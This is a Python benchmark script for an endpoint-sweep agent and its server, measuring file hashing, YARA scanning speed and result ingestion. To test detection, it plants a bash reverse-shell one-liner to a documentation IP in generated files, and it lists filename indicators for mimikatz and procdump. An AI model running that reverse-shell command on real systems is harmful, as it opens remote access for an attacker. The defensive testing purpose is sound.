"""Benchmark: the sweep agent's speed and memory, and the server's ingestion of results.

    .venv/bin/python bench/sweep.py [--files 100000] [--hosts 1000] [--keep]

1. Agent: generates a tree of `--files` files of mixed sizes (90% up to 4 KiB, 9% up to
   64 KiB, 1% up to 512 KiB; a few planted matches), then runs one sweep over it in a
   child process (the agent's own code, file checks: hashes with 1,000 listed hashes, YARA
   with the sample rules and the EICAR rule, file-name IOCs) and prints files hashed and
   YARA-scanned per second, MB/s and the child's peak memory (max RSS).
2. Server: a throw-away SQLite database (or DATABASE_URL's PostgreSQL server, a fresh
   database), 1,000 enrolled hosts in 20 units, one signed result each (10% infected, with
   three hits; those open clean-up tasks), each verified and ingested as an upload is;
   prints results per second.
"""

from __future__ import annotations

import argparse
import hashlib
import hmac
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "agent" / "src"))
sys.path.insert(0, str(REPO / "bench"))
sys.path.insert(0, str(REPO))  # the EICAR rule is shared with the agent's tests
CHILD = """
import json, resource, sys, time
from pathlib import Path
from citysoc_agent.state import State
from citysoc_agent.sweep import Sweep
job = json.loads(Path(sys.argv[1]).read_text())
start = time.perf_counter()
result = Sweep(job, State(Path(sys.argv[2])), paths=[sys.argv[3]]).run()
print(json.dumps({"seconds": time.perf_counter() - start, "stats": result["stats"],
                  "hits": len(result["hits"]), "checks": result["checks"],
                  "max_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}))
"""


def make_tree(root: Path, count: int) -> int:
    rng = random.Random(20240208)
    total = 0
    for i in range(count):
        folder = root / f"d{i // 1000:03}"
        if i % 1000 == 0:
            folder.mkdir(parents=True)
        roll = rng.random()
        size = rng.randint(64, 4096) if roll < 0.9 else rng.randint(4096, 65536)
        if roll > 0.99:
            size = rng.randint(65536, 524288)
        data = rng.randbytes(size)
        if i % 20_000 == 7:
            data += b"\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
        (folder / f"f{i:06}.bin").write_bytes(data)
        total += len(data)
    return total


def job() -> dict:
    from tests.agent.support import EICAR_RULE

    rules = (REPO / "tests/fixtures/agent/yara/rules.yar").read_text()
    rng = random.Random(1)
    return {
        "checks": ["hashes", "yara", "filenames"],
        "yara": [
            {"name": "sample", "version": 1, "source": rules},
            {"name": "builtin", "version": 1, "source": EICAR_RULE},
        ],
        "hashes": [{"hash": rng.randbytes(32).hex()} for _ in range(1000)],
        "filename_iocs": [{"regex": r"\\(mimikatz|procdump)\.exe$", "score": 90}],
        "max_files": 10_000_000,
        "max_seconds": 24 * 3600,
    }


def bench_agent(count: int, keep: bool) -> None:
    work = Path(tempfile.mkdtemp(prefix="citysoc-sweep-bench-"))
    try:
        start = time.perf_counter()
        size = make_tree(work / "tree", count)
        print(
            f"tree: {count} files, {size / 1e6:.0f} MB, made in {time.perf_counter() - start:.0f} s"
        )
        (work / "job.json").write_text(json.dumps(job()))
        env = {**os.environ, "PYTHONPATH": str(REPO / "agent" / "src")}
        out = subprocess.run(  # noqa: S603 - our own agent code
            [sys.executable, "-c", CHILD, str(work / "job.json"), str(work / "state"),
             str(work / "tree")],
            capture_output=True, text=True, check=True, env=env,
        ).stdout  # fmt: skip
        figures = json.loads(out)
        files, secs = figures["stats"]["files"], figures["seconds"]
        print(
            f"agent sweep: {files} files hashed (MD5+SHA1+SHA256) and YARA-scanned in {secs:.1f} s"
            f" = {files / secs:,.0f} files/s, {size / 1e6 / secs:.0f} MB/s; "
            f"{figures['hits']} hits; peak memory {figures['max_rss_kb'] / 1024:.0f} MB"
        )
    finally:
        if not keep:
            shutil.rmtree(work, ignore_errors=True)


def bench_server(hosts: int, keep: bool) -> None:
    from host_list import prepare_database

    os.environ["DJANGO_SETTINGS_MODULE"] = "citysoc.settings"
    os.environ.setdefault("LOG_LEVEL", "WARNING")
    label, cleanup = prepare_database(keep)
    try:
        citysoc = Path(sys.executable).with_name("citysoc")
        subprocess.run([str(citysoc), "migrate", "-v", "0"], check=True)  # noqa: S603
        import django

        django.setup()
        envelopes = _world(hosts)
        from citysoc.sweep import ingesting
        from citysoc.sweep.signatures import verify

        start = time.perf_counter()
        for envelope in envelopes:
            ingesting.ingest(verify(envelope), via="online")
        secs = time.perf_counter() - start
        from citysoc.intel.models import CleanupTask

        print(
            f"server ({label}): {hosts} hosts' results verified and ingested in {secs:.1f} s"
            f" = {hosts / secs:,.0f} results/s; {CleanupTask.objects.count()} tasks opened"
        )
    finally:
        cleanup()


def _world(hosts: int) -> list[dict]:
    from citysoc.core.models import Unit
    from citysoc.inventory.models import Host
    from citysoc.sweep.models import Agent

    city = Unit.objects.create(code="bench-city", name="Bench city", kind="city")
    units = [
        Unit.objects.create(code=f"w{n:02}", name=f"Ward {n}", kind="ward", parent=city)
        for n in range(20)
    ]
    envelopes = []
    for i in range(hosts):
        unit = units[i % len(units)]
        host = Host.objects.create(
            unit=unit, hostname=f"pc-{i:04}", ipv4=f"10.{i // 250}.{i % 250}.9"
        )
        secret = hashlib.sha256(str(i).encode()).hexdigest()
        agent = Agent.objects.create(
            unit=unit, host=host, key=f"ag_{i}", secret=secret, hostname=host.hostname
        )
        hits = [
            {"check": "yara", "kind": "file", "score": 90, "title": "web shell",
             "path": f"C:\\inetpub\\x{k}.aspx", "sha256": "ab" * 32, "rule": "r:x"}
            for k in range(3 if i % 10 == 0 else 0)
        ]  # fmt: skip
        payload = {"stats": {"files": 50_000}, "hits": hits, "connections": 40}
        body = json.dumps({"kind": "result", "payload": payload})
        signature = hmac.new(secret.encode(), body.encode(), hashlib.sha256).hexdigest()
        envelopes.append({"agent": agent.key, "body": body, "signature": signature})
    return envelopes


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--files", type=int, default=100_000)
    parser.add_argument("--hosts", type=int, default=1000)
    parser.add_argument("--keep", action="store_true", help="keep the tree and the database")
    opts = parser.parse_args()
    try:
        import yara_x  # noqa: F401
    except ImportError:
        print("yara-x is not installed (pip install yara-x): the agent figures need it.")
        return 2
    bench_agent(opts.files, opts.keep)
    bench_server(opts.hosts, opts.keep)
    return 0


if __name__ == "__main__":
    sys.exit(main())
